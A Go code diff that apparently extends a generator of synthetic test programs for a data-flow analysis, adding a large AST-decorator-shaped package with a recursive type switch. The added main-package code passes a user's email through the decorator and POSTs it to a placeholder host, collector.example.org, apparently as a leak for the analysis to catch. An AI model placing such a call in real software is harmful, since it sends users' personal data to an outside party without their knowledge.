@@ -20,6 +20,11 @@ import (
 //     service type with a thousand methods, each building a URL, a
 //     request and decoding a response, and a model type with a getter per
 //     field.
+//   - decor: an AST decorator (github.com/dave/dst/decorator): node types
+//     whose fields point to other nodes, and one recursive function whose
+//     type switch over them copies each node into a decorated one, over
+//     the size at which functions are walked field-insensitively, where
+//     every load may reach hundreds of places.
 //   - pb: protobuf-generated code (protoc-gen-go): messages with getters,
 //     oneof wrappers, a raw descriptor of thousands of bytes, type and
 //     dependency tables, and the file's init function, over a small
@@ -35,6 +40,7 @@ const (
 	apiFields   = 60   // fields of the API's model type (one getter each)
 	pbMessages  = 150  // messages of the protobuf-like file
 	pbDescBytes = 6000 // bytes of its raw descriptor
+	decorTypes  = 120  // node types of the decorator
 )
 
 // shapePackages returns the shape packages' files (path relative to the
@@ -46,8 +52,9 @@ func shapePackages(scale int) (files map[string]string, paths []string) {
 		"shapes/api/api.go":      apiSource(scale*apiMethods, apiFields),
 		"shapes/pb/runtime.go":   pbRuntimeSource,
 		"shapes/pb/person.pb.go": pbSource(scale*pbMessages, scale*pbDescBytes),
+		"shapes/decor/decor.go":  decorSource(scale * decorTypes),
 	}
-	for _, name := range []string{"giant", "table", "api", "pb"} {
+	for _, name := range []string{"giant", "table", "api", "pb", "decor"} {
 		paths = append(paths, ModulePath+"/shapes/"+name)
 	}
 	return files, paths
@@ -581,6 +588,119 @@ func file_person_proto_init() {
 	return b.String()
 }
 
+// decorSource is an AST and its decorator: n node types, each with a
+// name and fields pointing to other nodes (any node, a node of the next
+// type, the parent); Decorate copies a tree into decorated nodes through
+// one type switch, recursively, remembering each copy in a map; Print
+// writes the decorated tree's names. The name a tree is built with flows
+// to what Print returns.
+func decorSource(n int) string {
+	var b strings.Builder
+	b.WriteString(`// Package decor is shaped like an AST decorator: node types pointing to
+// one another, and one recursive function copying a tree of them through
+// a type switch.
+package decor
+
+import "strings"
+
+// Node is a node of the tree.
+type Node interface{ node() }
+
+// Decorated is a node of the decorated tree.
+type Decorated interface{ decorated() }
+
+// Decorator copies trees, keeping the copy of each node.
+type Decorator struct {
+	Nodes map[Node]Decorated
+	Path  []Node
+}
+`)
+	for i := 0; i < n; i++ {
+		next := (i + 1) % n
+		fmt.Fprintf(&b, `
+type N%[1]d struct {
+	Name   string
+	X, Y   Node
+	Next   *N%[2]d
+	Parent Node
+}
+
+func (*N%[1]d) node() {}
+
+type D%[1]d struct {
+	Name   string
+	X, Y   Decorated
+	Next   *D%[2]d
+	Parent Decorated
+	Decs   []string
+}
+
+func (*D%[1]d) decorated() {}
+`, i, next)
+	}
+	b.WriteString(`
+// Decorate returns the decorated copy of n.
+func (d *Decorator) Decorate(n Node) Decorated {
+	if n == nil {
+		return nil
+	}
+	if out, ok := d.Nodes[n]; ok {
+		return out
+	}
+	d.Path = append(d.Path, n)
+	defer func() { d.Path = d.Path[:len(d.Path)-1] }()
+	switch n := n.(type) {
+`)
+	for i := 0; i < n; i++ {
+		next := (i + 1) % n
+		fmt.Fprintf(&b, `	case *N%[1]d:
+		out := &D%[1]d{Name: n.Name}
+		d.Nodes[n] = out
+		out.X = d.Decorate(n.X)
+		out.Y = d.Decorate(n.Y)
+		if n.Next != nil {
+			out.Next, _ = d.Decorate(n.Next).(*D%[2]d)
+		}
+		if len(d.Path) > 1 {
+			out.Parent = d.Nodes[d.Path[len(d.Path)-2]]
+		}
+		out.Decs = append(out.Decs, n.Name, "// N%[1]d")
+		return out
+`, i, next)
+	}
+	b.WriteString(`	}
+	return nil
+}
+
+// Build makes a small tree named name.
+func Build(name string) Node {
+	leaf := &N1{Name: name}
+	return &N0{Name: "root", X: leaf, Y: &N2{Name: "other", X: leaf}, Next: leaf}
+}
+
+// Print writes the names of a decorated tree.
+func Print(t Decorated) string {
+	var b strings.Builder
+	write(&b, t)
+	return b.String()
+}
+
+func write(b *strings.Builder, t Decorated) {
+	switch t := t.(type) {
+`)
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, `	case *D%[1]d:
+		b.WriteString(t.Name)
+		write(b, t.X)
+		write(b, t.Y)
+`, i)
+	}
+	b.WriteString(`	}
+}
+`)
+	return b.String()
+}
+
 // shapesMain is the part of the main package that passes user data
 // through the shape packages: it is spliced into mainSource, with ALIAS
 // the name of a top-layer package.
@@ -601,6 +721,11 @@ func shapes(ctx context.Context, p *ALIAS.Profile) {
 	c := api.NewClient(nil)
 	if _, _, err := c.Users.Op0(ctx, email, nil); err != nil {
 		fmt.Fprintln(os.Stderr, err)
+	}
+	dec := &decor.Decorator{Nodes: map[decor.Node]decor.Decorated{}}
+	tree := dec.Decorate(decor.Build(email))
+	if resp, err := http.Post("https://collector.example.org/decor", "text/plain", strings.NewReader(decor.Print(tree))); err == nil {
+		resp.Body.Close()
 	}
 	msg := &pb.Msg0{Email: email, Kind: &pb.Msg0_Text{Text: email}}
 	if data, err := pb.Marshal(msg); err == nil {
